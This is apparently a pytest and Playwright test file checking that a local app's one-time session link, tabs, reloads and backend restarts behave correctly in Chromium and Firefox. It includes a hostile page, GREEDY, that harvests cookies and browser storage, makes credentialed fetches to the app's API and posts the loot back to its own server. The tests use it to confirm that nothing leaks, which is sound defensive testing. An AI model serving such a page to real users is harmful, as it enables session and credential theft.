"""The session of the served page, in real browsers: begun by the link, for this page alone, until the end."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.extension.chromium import EXTENSION, HEIGHT, WIDE, Chromium
from tests.extension.conftest import Paired
from tests.extension.firefox import Firefox, running_firefox
from tests.extension.origins import Origins

IN = "worth writing today"
OUT = "Open the link that the program printed"

# Whatever a page can come by: what the browser keeps for it, and what our backend answers it.
GREEDY = """<!doctype html><title>Waiting</title><script>
(async () => {
  const ours = decodeURIComponent(location.search.slice(1));
  const found = [document.cookie, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage })];
  for (const path of ["/v1/people", "/v1/loose-ends", "/", "/openapi.json"]) {
    for (const options of [{ credentials: "include" }, { credentials: "include", mode: "no-cors" }]) {
      try { found.push(await (await fetch(ours + path, options)).text()); } catch { /* as it should be */ }
    }
  }
  await fetch("/found", { method: "POST", body: JSON.stringify(found) });
  document.title = "Done";
})();
</script>"""


@dataclass
class Neighbour:
    """A web server of another user of this computer: what browsers sent it, and what its page came by."""

    port: int = 0
    headers: list[dict[str, str]] = field(default_factory=list)
    found: list[str] = field(default_factory=list)

    def address(self, ours: str) -> str:
        return f"http://127.0.0.1:{self.port}/?{ours}"

    def secrets(self) -> list[dict[str, str]]:
        """Headers that it could send to our backend, out of all that it has."""
        sent = [{"Cookie": one["Cookie"]} for one in self.headers if "Cookie" in one]
        kept = [word for text in self.found for word in text.replace('"', " ").replace("=", " ").split()]
        return [*sent, *({"Authorization": f"Bearer {word}"} for word in kept if word.isascii())]


@contextmanager
def listening() -> Iterator[Neighbour]:
    neighbour = Neighbour()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(GREEDY.encode())

        def do_POST(self) -> None:
            neighbour.found += json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            neighbour.headers.append(dict(self.headers.items()))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_words: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    neighbour.port = server.server_port
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield neighbour
    server.shutdown()
    thread.join()
    server.server_close()


def nothing_opens(neighbour: Neighbour, ours: str) -> None:
    assert len(neighbour.found) >= 3, "its page told what it came by"
    assert not [text for text in neighbour.found if "loose_ends" in text or "people" in text]
    for shown in ({}, *neighbour.secrets()):
        assert httpx.get(f"{ours}/v1/people", headers=shown).status_code == 401, list(shown)


@pytest.fixture
def page(chromium: Chromium, own: Paired) -> Page:
    """The served page, let in by its link."""
    page = chromium.context.new_page()
    page.set_viewport_size({"width": WIDE, "height": HEIGHT})
    page.goto(own.backend.link)
    expect(page.get_by_text(IN)).to_be_visible()
    return page


@pytest.fixture(scope="module")
def firefox(origins: Origins) -> Iterator[Firefox]:
    with running_firefox(origins, EXTENSION) as firefox:
        yield firefox


def test_a_page_on_another_port_gets_nothing_that_opens_the_api(
    chromium: Chromium, own: Paired, page: Page
) -> None:
    with listening() as neighbour:
        other = chromium.visit(neighbour.address(own.url))
        expect(other).to_have_title("Done")
        nothing_opens(neighbour, own.url)
    page.reload()
    expect(page.get_by_text(IN)).to_be_visible()


def test_the_link_works_once_and_its_code_is_not_left_in_the_address(own: Paired, page: Page) -> None:
    assert page.url == f"{own.url}/"
    code = own.backend.link.rpartition("/")[2]
    assert httpx.post(f"{own.url}/v1/sessions", json={"code": code}).status_code == 403
    # Here it did its work already, so whoever opens it again is in.
    page.goto(own.backend.link)
    expect(page.get_by_text(IN)).to_be_visible()
    page.evaluate("localStorage.clear()")
    page.goto(own.backend.link)
    expect(page.get_by_text(OUT)).to_be_visible()


def test_a_reload_a_second_tab_and_a_bookmark_go_on_in_the_session(
    chromium: Chromium, own: Paired, page: Page
) -> None:
    page.reload()
    expect(page.get_by_text(IN)).to_be_visible()
    second = chromium.visit(f"{own.url}/#open")
    expect(second.locator(".end-row").first).to_be_visible()
    page.close()
    third = chromium.visit(own.url)
    expect(third.get_by_text(IN)).to_be_visible()


def test_news_come_to_the_page_by_its_session(own: Paired, page: Page) -> None:
    """The event stream shows it too."""
    page.goto(f"{own.url}/#open")
    first = page.locator(".end-row").first.get_attribute("data-id") or ""
    with own.backend.client(own.token) as client:
        client.patch("/v1/loose-ends", json={"ids": [first], "verb": "done"}).raise_for_status()
    expect(page.locator(f'[data-id="{first}"]')).to_have_count(0)


def test_the_session_ends_with_the_backend_and_a_new_link_lets_every_tab_in(
    chromium: Chromium, own: Paired, page: Page
) -> None:
    own.backend.stop()
    own.backend.start()  # on the same port
    page.reload()
    expect(page.get_by_text(OUT)).to_be_visible()
    second = chromium.visit(own.backend.link)
    expect(second.get_by_text(IN)).to_be_visible()
    page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    expect(page.get_by_text(IN)).to_be_visible()


def test_in_firefox_too(firefox: Firefox, own: Paired) -> None:
    firefox.marionette.navigate(own.backend.link)
    firefox.text(IN)
    assert firefox.marionette.get_url() == f"{own.url}/"
    firefox.marionette.refresh()
    firefox.text(IN)
    tab = firefox.marionette.open(type="tab", focus=True)
    firefox.marionette.switch_to_window(tab["handle"])
    firefox.marionette.navigate(own.url)
    firefox.text(IN)
    with listening() as neighbour:
        firefox.marionette.navigate(neighbour.address(own.url))
        firefox.wait("return document.title === 'Done'")
        nothing_opens(neighbour, own.url)
